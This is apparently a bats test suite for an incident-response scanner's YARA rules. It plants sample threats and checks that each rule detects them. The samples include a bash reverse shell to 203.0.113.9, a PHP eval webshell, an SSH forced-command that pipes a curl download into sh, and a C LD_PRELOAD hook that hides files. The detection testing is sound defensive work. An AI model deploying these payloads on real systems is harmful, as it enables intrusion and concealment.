#!/usr/bin/env bats
# The starter rules (rules/*.yar) that the playbooks and the kit use: each
# matches a planted sample of what it names, and nothing among the
# system's own programs and libraries.

load common

RULES=$BATS_TEST_DIRNAME/../../rules

setup() {
	irkit_setup
	command -v cc >/dev/null || skip "no C compiler"
}

@test "starter rules: each matches its planted sample" {
	# Planted under a directory that is not /tmp, but for the ELF one.
	mkdir s
	printf 'nohup bash -i >& /dev/tcp/203.0.113.9/8443 0>&1 &\n' >s/rs.sh
	printf '<?php @eval(base64_decode($_POST["x"])); ?>\n' >s/up.php
	printf 'command="curl -s http://203.0.113.9/x | sh" ssh-ed25519 AAAAC3Nza k\n' >s/authorized_keys
	printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >s/eicar.com
	cat >hook.c <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static const char *conf = "/etc/ld.so.preload";
struct dirent64 *
readdir64(DIR *d)
{
	static struct dirent64 *(*real)(DIR *);
	struct dirent64 *e;

	if (real == NULL)
		real = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
	while ((e = real(d)) != NULL && strstr(e->d_name, conf + 20) != NULL)
		;
	return e;
}
C
	cc -shared -fPIC -o s/libhook.so hook.c
	# An ELF in a temporary directory: the test's own is under /tmp.
	case $BATS_TEST_TMPDIR in /tmp/*) ;; *) skip "BATS_TEST_TMPDIR is not under /tmp" ;; esac
	cp /bin/true s/dropper
	run_tool 1 out.jsonl ir-scan -r "$RULES" "$PWD/s"
	assert_eq "$(jq -r 'select(.type == "match") | [.rule, (.path | sub(".*/s/"; ""))] | @tsv' out.jsonl | sort)" \
	    "$(printf '%s\t%s\n' irkit_eicar eicar.com irkit_elf_in_temp dropper \
	    irkit_elf_in_temp libhook.so irkit_ld_preload_rootkit libhook.so \
	    irkit_php_webshell up.php irkit_reverse_shell_oneliner rs.sh \
	    irkit_ssh_key_forced_command authorized_keys | sort)"
}

@test "starter rules: nothing in the system's programs and libraries" {
	local d dirs=
	# A property of the rules, not of memory safety: the sanitizer build
	# would take minutes over gigabytes for what the normal run proves.
	[ "${IRKIT_SANITIZED:-0}" = 1 ] && skip "rules, not code: the normal run checks it"
	for d in /usr/bin /usr/sbin /usr/lib/x86_64-linux-gnu /lib/x86_64-linux-gnu; do
		[ -d "$d" ] && [ ! -L "$d" ] && dirs="$dirs $d"
	done
	# shellcheck disable=SC2086
	run_tool 0 out.jsonl ir-scan -r "$RULES" --max-size 32M -x $dirs
	[ "$(jq -s '[.[] | select(.type == "match")] | length' out.jsonl)" -eq 0 ] ||
	    fail "$(jq -c 'select(.type == "match") | [.rule, .path]' out.jsonl)"
}
